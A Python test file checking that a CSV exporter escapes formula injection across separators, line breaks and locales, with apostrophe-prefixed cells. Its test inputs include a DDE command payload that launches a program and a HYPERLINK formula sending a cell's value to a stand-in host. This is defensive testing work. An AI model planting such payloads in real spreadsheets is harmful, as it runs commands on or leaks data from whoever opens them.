"""No reader of our CSV takes any part of it for a formula, and a spreadsheet opens it as it is."""

import csv
import io
import re

import pytest
from answering import response
from counterpart import compare
from counterpart.export import LAYOUTS, Table, csv_bytes, csv_text, layout_of, summary
from counterpart.export.comma_separated import FORMULA, SEPARATORS
from hypothesis import example, given
from hypothesis import strategies as st
from people import people

from scripts.paths import LANGUAGES

TRIGGERS = tuple(FORMULA + "\t\r")
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")
PASSED_OVER = ' "\N{NO-BREAK SPACE}\N{ZERO WIDTH NO-BREAK SPACE}\N{ZERO WIDTH SPACE}'
PIECES = st.sampled_from(
    [*SEPARATORS, *FORMULA, *PASSED_OVER, *"\r\n\v\f\x85\u2028'1-ax|", "=1+1", "\r\n", '""', "-5"]
)
TEXTS = st.lists(PIECES, max_size=8).map("".join) | st.text(
    st.characters(exclude_categories=("Cs",)), max_size=20
)
SEPARATED = [*SEPARATORS]
LINES = ("\r\n", "\n", "\r", "\u2028", "\x85")


def readings(text):
    """Yield every cell that some reader finds: with each separator, with and without quotes."""
    for separator in SEPARATED:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = io.StringIO(text, newline="")
            for row in csv.reader(lines, delimiter=separator, quoting=quoting):
                yield from row
        for line in re.split("|".join(LINES), text):
            yield from line.split(separator)


def calculates(cell):
    """Return whether a spreadsheet may calculate a cell."""
    parts = (part.strip('" ') for part in re.split(f"[{re.escape(''.join(SEPARATORS))}]", cell))
    if all(not part or NUMBER.fullmatch(part) for part in parts):
        return False  # numbers side by side, which is nothing that can be worked out
    bare = cell.lstrip(PASSED_OVER)
    return bare.startswith(TRIGGERS) or cell.startswith(TRIGGERS)


@pytest.mark.parametrize("layout", LAYOUTS)
@given(first=TEXTS, second=TEXTS, number=st.floats(-100, 100).map(lambda n: round(n, 4)))
@example(first="Acme;=cmd|'/C calc'!A0", second="see below\n=cmd|'/C calc'!A0", number=-1.5)
@example(first='x;=HYPERLINK("http://example.invalid/?"&A1)', second="a\t=1", number=0.0)
@example(first="\t=1+1", second="\r=1+1", number=0.0)
@example(first="-5", second="x", number=0.0)
@example(first="\t", second="-5", number=0.0)
@example(first="\n=1+1", second='x,\N{ZERO WIDTH NO-BREAK SPACE}"＝1', number=0.0)
def test_no_reader_finds_a_formula(layout, first, second, number):
    rows = ({"a": first, "b": number, "c": second, "d": "."}, {"a": second, "b": None, "c": first})
    text = csv_text(Table(("a", "b", "c", "d"), rows), layout)
    assert [cell for cell in readings(text) if calculates(cell)] == []


@pytest.mark.parametrize("layout", LAYOUTS)
@given(text=TEXTS)
def test_any_text_is_read_back_with_apostrophes_at_most(layout, text):
    written = csv_text(Table(("a", "b"), ({"a": text, "b": "."},)), layout)
    lines = io.StringIO(written, newline="")
    (row,) = csv.DictReader(lines, delimiter=LAYOUTS[layout].separator)
    stored = iter(row["a"])
    assert all(character in stored for character in text)  # in their order
    assert row["a"].replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["a; b", "1;2", "x,y", "one\ntwo", "a|b", "'x'", "5 - 3", "5,5"])
def test_what_calculates_nowhere_stays_as_it_is(text):
    assert csv_text(Table(("a",), ({"a": text},))).count("'") == text.count("'")


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_spreadsheet_of_the_language_reads_text_and_numbers(language, catalogue):
    actual = people(relationship="Café Zürich; Händel")
    data = csv_bytes(summary(catalogue, actual), layout_of(catalogue.writing(language)))
    assert data.startswith(b"\xef\xbb\xbfrelationship")
    assert data.endswith(b"\r\n")
    separator, decimal = {"en": (",", "."), "de": (";", ","), "nl": (";", ",")}[language]
    rows = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator)
    rows = list(rows)
    assert {row["relationship"] for row in rows} == {"Café Zürich; Händel"}
    levels = [row["level"] for row in rows if row["level"]]
    assert any(decimal in level for level in levels)
    other = {".": ",", ",": "."}[decimal]
    assert not [level for level in levels if other in level]


def test_for_programs_there_is_a_plain_form(catalogue):
    plain = csv_bytes(summary(catalogue, people()), "plain")
    assert plain == csv_bytes(summary(catalogue, people()), "comma").removeprefix(b"\xef\xbb\xbf")


def test_a_response_with_formulas_gives_none(catalogue):
    name = "Acme;=cmd|'/C calc'!A0"
    both = [response(side, respondent=side, relationship=name) for side in ("buyer", "supplier")]
    table = summary(catalogue, compare(catalogue, both))
    for layout in LAYOUTS:
        text = csv_text(table, layout)
        assert name not in text
        assert "Acme;'=cmd|'/C calc'!A0" in text
